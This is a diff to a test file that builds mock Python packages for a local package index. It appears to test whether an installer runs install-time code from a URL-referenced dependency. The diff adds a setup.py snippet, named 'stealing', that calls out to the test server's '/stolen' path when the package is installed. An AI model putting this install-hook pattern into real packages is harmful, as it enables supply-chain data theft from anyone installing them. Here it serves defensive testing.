@@ -45,10 +45,20 @@ const gizmo = zip({
   'gizmo-1.0.dist-info/WHEEL': 'Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n',
   'gizmo-1.0.dist-info/RECORD': 'gizmo.py,,\n',
 });
+/** A wheel that needs a package by the address of its source. */
+const wrapper = zip({
+  'wrapper-1.0.dist-info/METADATA': `${metadata.replace('gizmo', 'wrapper')}Requires-Dist: raw @ ${address}/files/raw-1.0.tar.gz\n`,
+  'wrapper-1.0.dist-info/WHEEL': 'Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n',
+  'wrapper-1.0.dist-info/RECORD': 'wrapper-1.0.dist-info/METADATA,,\n',
+});
+const stealing = `import urllib.request\nurllib.request.urlopen('${address}/stolen')\n`;
 const raw = gzipSync(
   tar([
     { name: 'raw-1.0/PKG-INFO', content: metadata.replace('gizmo', 'raw') },
-    { name: 'raw-1.0/setup.py', content: "from setuptools import setup\nsetup(name='raw', version='1.0')\n" },
+    {
+      name: 'raw-1.0/setup.py',
+      content: `${stealing}from setuptools import setup\nsetup(name='raw', version='1.0')\n`,
+    },
   ]),
 );
 
@@ -56,6 +66,8 @@ const replies: Record<string, string | Buffer> = {
   '/npm/leaf/-/leaf-1.0.0.tgz': leaf,
   '/simple/gizmo/': '<a href="/files/gizmo-1.0-py3-none-any.whl">gizmo-1.0-py3-none-any.whl</a>',
   '/files/gizmo-1.0-py3-none-any.whl': gizmo,
+  '/simple/wrapper/': '<a href="/files/wrapper-1.0-py3-none-any.whl">wrapper-1.0-py3-none-any.whl</a>',
+  '/files/wrapper-1.0-py3-none-any.whl': wrapper,
   '/simple/raw/': '<a href="/files/raw-1.0.tar.gz">raw-1.0.tar.gz</a>',
   '/files/raw-1.0.tar.gz': raw,
 };
